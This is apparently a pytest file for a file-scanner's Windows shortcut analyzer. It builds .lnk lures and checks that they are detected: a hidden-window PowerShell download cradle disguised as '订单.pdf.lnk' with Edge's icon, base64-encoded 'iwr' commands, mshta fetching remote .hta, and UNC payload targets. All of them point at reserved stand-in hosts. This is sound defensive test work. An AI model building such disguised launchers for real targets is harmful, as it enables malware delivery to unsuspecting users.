"""Shortcuts: real .lnk files written at test time by pylnk3 (test-only dependency),
parsed by the analyzer (LnkParse3 plus the layout walk in filewall.analyze.lnk).

Commands in these shortcuts are text and never run; addresses are reserved ones
(192.0.2.0/24, example.invalid).
"""

from __future__ import annotations

import base64
import io
import struct
import time
import uuid

import pylnk3
import pytest
from conftest import rules_of

from filewall.analyze.lnk import parse_lnk

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CRADLE = "-w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/TEST-ONLY')\""
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
LNK_RULES = {
    "lnk.launches_shell",
    "lnk.hidden_window",
    "lnk.encoded_command",
    "lnk.remote_target",
    "lnk.icon_disguise",
}


def lnk_bytes(lnk) -> bytes:
    buffer = io.BytesIO()
    lnk.write(buffer)
    return buffer.getvalue()


def shortcut(target: str, **options) -> bytes:
    return lnk_bytes(pylnk3.for_file(target, **options))


def lnk_info(report) -> dict:
    return report.tree.info["lnk"]


def finding(report, rule: str):
    return next(item for item in report.findings if item.rule == rule)


# -- the lure ----------------------------------------------------------------------------------------------


@pytest.fixture
def cradle_lnk() -> bytes:
    """A PowerShell download-cradle shortcut: hidden window, Edge's icon (research R12)."""
    return shortcut(
        POWERSHELL, arguments=CRADLE, icon_file=EDGE, icon_index=11, window_mode=pylnk3.WINDOW_MINIMIZED
    )


def test_powershell_cradle_disguised_as_pdf(scan, cradle_lnk):
    report = scan(cradle_lnk, "订单.pdf.lnk")
    assert report.verdict.value == "malicious"
    rules = rules_of(report)
    assert {
        "type.shortcut",
        "lnk.launches_shell",
        "lnk.hidden_window",
        "lnk.icon_disguise",
        "name.double_extension",
    } <= rules
    assert "lnk.encoded_command" not in rules and "lnk.remote_target" not in rules

    shell = finding(report, "lnk.launches_shell")
    assert shell.params["program"] == "powershell.exe" and "DownloadString" in shell.params["arguments"]
    assert "订单.pdf.lnk" in shell.message_zh and "powershell.exe" in shell.message_zh
    assert finding(report, "lnk.hidden_window").params["evidence"] == "-w hidden"
    icon = finding(report, "lnk.icon_disguise")
    assert icon.params["icon"] == "msedge.exe" and "Edge" in icon.message and "Edge 浏览器" in icon.message_zh

    info = lnk_info(report)
    assert info["target"] == POWERSHELL and info["arguments"] == CRADLE
    assert info["show_window"] == "minimized without focus" and info["icon_index"] == 11
    assert info["urls"] == ["http://192.0.2.10/TEST-ONLY"] and info["hosts"] == ["192.0.2.10"]


def test_shortcut_with_only_an_item_id_list(cradle_lnk):
    """pylnk3 writes no LinkInfo (ForceNoLinkInfo): the target comes from the ID list."""
    info = parse_lnk(cradle_lnk)
    assert "HasLinkInfo" not in info["link_flags"] and "HasTargetIDList" in info["link_flags"]
    assert info["id_list_path"] == POWERSHELL and info["target_candidates"] == [POWERSHELL]


def test_benign_document_shortcut(scan):
    report = scan(shortcut(r"C:\Users\Public\Documents\report.docx"), "report.lnk")
    assert "type.shortcut" in rules_of(report)  # a shortcut from a customer is still judged by policy
    assert not rules_of(report) & LNK_RULES
    info = lnk_info(report)
    assert info["target"] == r"C:\Users\Public\Documents\report.docx" and info["launches"] is None
    assert info["urls"] == [] and info["arguments"] == ""


def test_shortcut_to_word_with_words_icon_is_not_a_disguise(scan):
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    report = scan(shortcut(word, icon_file=word), "Word.lnk")
    assert not rules_of(report) & LNK_RULES


# -- encoded commands, hidden windows ----------------------------------------------------------------------


def test_encoded_powershell_through_cmd(scan):
    command = "Write-Output 'TEST-ONLY'; iwr http://example.invalid/a.ps1"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    data = shortcut(
        r"C:\Windows\System32\cmd.exe",
        arguments=f"/c start /min powershell -nop -enc {encoded}",
        icon_file=r"%SystemRoot%\System32\imageres.dll",
        icon_index=2,
    )
    report = scan(data, "发票.lnk")
    assert finding(report, "lnk.launches_shell").params["program"] == "cmd.exe"
    assert finding(report, "lnk.encoded_command").params["evidence"].startswith("-enc ")
    assert finding(report, "lnk.hidden_window").params["evidence"] == "start /min"
    assert finding(report, "lnk.icon_disguise").params["icon"] == "imageres.dll"
    info = lnk_info(report)
    assert info["decoded_command"] == command
    assert "http://example.invalid/a.ps1" in info["urls"] and "example.invalid" in info["hosts"]


@pytest.mark.parametrize(
    "arguments, evidence",
    [
        ("-WindowStyle Hidden -c echo TEST-ONLY", "-windowstyle hidden"),
        ("-win h -c echo TEST-ONLY", "-win h"),
        ("-w 1 -c echo TEST-ONLY", "-w 1"),
    ],
)
def test_hidden_window_switch_spellings(arguments, evidence, scan):
    report = scan(shortcut(POWERSHELL, arguments=arguments), "x.lnk")
    assert finding(report, "lnk.hidden_window").params["evidence"] == evidence


def test_minimized_window_state_alone(scan):
    data = shortcut(
        r"C:\Windows\System32\cmd.exe", arguments="/c echo TEST-ONLY", window_mode=pylnk3.WINDOW_MINIMIZED
    )
    assert "SW_SHOWMINNOACTIVE" in finding(scan(data, "x.lnk"), "lnk.hidden_window").params["evidence"]


def test_certutil_encode_is_not_an_encoded_powershell_command(scan):
    data = shortcut(
        r"C:\Windows\System32\certutil.exe",
        arguments="-encode C:\\Users\\Public\\a.txt C:\\Users\\Public\\b.txt",
    )
    report = scan(data, "x.lnk")
    assert "lnk.launches_shell" in rules_of(report) and "lnk.encoded_command" not in rules_of(report)


# -- what a shortcut may start -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target, arguments, program",
    [
        (r"C:\Windows\System32\mshta.exe", "http://192.0.2.5/TEST-ONLY.hta", "mshta.exe"),
        (r"C:\Windows\System32\rundll32.exe", r"C:\Users\Public\a.dll,Start", "rundll32.exe"),
        (r"C:\Windows\explorer.exe", "http://192.0.2.5/TEST-ONLY", "explorer.exe"),
        (r"C:\Windows\System32\conhost.exe", "--headless cmd /c echo TEST-ONLY", "conhost.exe"),
        (r"C:\Users\Public\Documents\readme.vbs", None, "readme.vbs"),
    ],
)
def test_programs_that_run_commands(target, arguments, program, scan):
    report = scan(shortcut(target, arguments=arguments), "资料.lnk")
    assert finding(report, "lnk.launches_shell").params["program"] == program


@pytest.mark.parametrize(
    "target, arguments",
    [(r"C:\Windows\explorer.exe", r"C:\Users\Public\Documents"), (r"C:\Windows\System32\cmd.exe", None)],
)
def test_launchers_without_a_command_are_not_flagged(target, arguments, scan):
    assert "lnk.launches_shell" not in rules_of(scan(shortcut(target, arguments=arguments), "x.lnk"))


def test_remote_target_on_another_computer(scan):
    report = scan(shortcut(r"\\192.0.2.10\share\payload.exe"), "报价.lnk")
    assert finding(report, "lnk.remote_target").params["target"] == r"\\192.0.2.10\share\payload.exe"
    info = lnk_info(report)
    assert info["network_share"] == r"\\192.0.2.10\SHARE" and "192.0.2.10" in info["hosts"]


# -- layout details ------------------------------------------------------------------------------------------


def test_link_info_with_local_drive_details():
    lnk = pylnk3.create()
    lnk.link_flags.IsUnicode = True
    link_info = pylnk3.LinkInfo()
    link_info.local, link_info.drive_type, link_info.drive_serial = 1, pylnk3.DRIVE_FIXED, 0x1234ABCD
    link_info.volume_label, link_info.local_base_path = "OS", r"C:\Users\Public\Documents\report.docx"
    lnk.link_info = link_info
    info = parse_lnk(lnk_bytes(lnk))
    assert info["target"] == r"C:\Users\Public\Documents\report.docx"
    assert (info["drive_type"], info["drive_serial"], info["volume_label"]) == (
        "DRIVE_FIXED",
        "0x1234abcd",
        "OS",
    )


def test_long_names_come_from_the_extension_block(scan):
    """Explorer stores 8.3 names as primary names and the long names in a 0xBEEF0004 block."""
    lnk = pylnk3.for_file(POWERSHELL, arguments="-c echo TEST-ONLY")
    short = {"WindowsPowerShell": "WINDOW~1", "powershell.exe": "POWERS~1.EXE", "System32": "SYSTEM32"}
    for item in lnk.shell_item_id_list.items:
        if isinstance(item, pylnk3.PathSegmentEntry):
            item.short_name = short.get(item.full_name, item.full_name)
    data = lnk_bytes(lnk)
    assert b"POWERS~1.EXE" in data
    assert parse_lnk(data)["id_list_path"] == POWERSHELL
    assert finding(scan(data, "x.lnk"), "lnk.launches_shell").params["program"] == "powershell.exe"


def test_machine_id_and_mac_address_from_the_tracker_block():
    lnk = pylnk3.for_file(r"C:\Windows\System32\cmd.exe", arguments="/c echo TEST-ONLY")
    droid = uuid.uuid1(node=0x00005E005301, clock_seq=7)  # MAC from the documentation range (RFC 7042)
    volume = uuid.UUID("6f1d2c3b-0000-4000-8000-000000000001")
    tracker = (
        struct.pack("<II", 0x58, 0)
        + b"desktop-test01".ljust(16, b"\x00")
        + (volume.bytes_le + droid.bytes_le) * 2
    )
    lnk.extra_data = pylnk3.ExtraData(blocks=[pylnk3.ExtraData_Unparsed(signature=0xA0000003, data=tracker)])
    info = parse_lnk(lnk_bytes(lnk))
    assert info["machine_id"] == "desktop-test01" and info["mac_address"] == "00:00:5e:00:53:01"


def test_long_working_folder_does_not_hide_the_arguments(scan):
    """A working folder longer than 260 characters must not shift the fields after it."""
    folder = "C:\\Users\\Public\\" + "a" * 300
    data = shortcut(POWERSHELL, arguments=CRADLE, work_dir=folder)
    report = scan(data, "x.lnk")
    info = lnk_info(report)
    assert info["working_dir"] == folder and info["arguments"] == CRADLE
    assert "lnk.launches_shell" in rules_of(report)


def test_thousands_of_tiny_extra_blocks_stay_fast(scan):
    base = shortcut(r"C:\Windows\System32\cmd.exe", arguments="/c echo TEST-ONLY")[
        :-4
    ]  # drop the terminal block
    hostile = base + struct.pack("<II", 8, 0xA0000099) * 100_000
    started = time.perf_counter()
    report = scan(hostile, "x.lnk")
    assert time.perf_counter() - started < 5
    info = lnk_info(report)
    assert info["arguments"] == "/c echo TEST-ONLY" and info["appended_bytes"] > 700_000


def test_cut_short_shortcut_is_corrupt_not_a_crash(scan, cradle_lnk):
    report = scan(cradle_lnk[:200], "x.lnk")
    corrupt = finding(report, "file.corrupt")
    assert corrupt.params["format"] == "shortcut" and "cut short" in corrupt.params["reason"]
    assert "scan.analyzer_failed" not in rules_of(report)
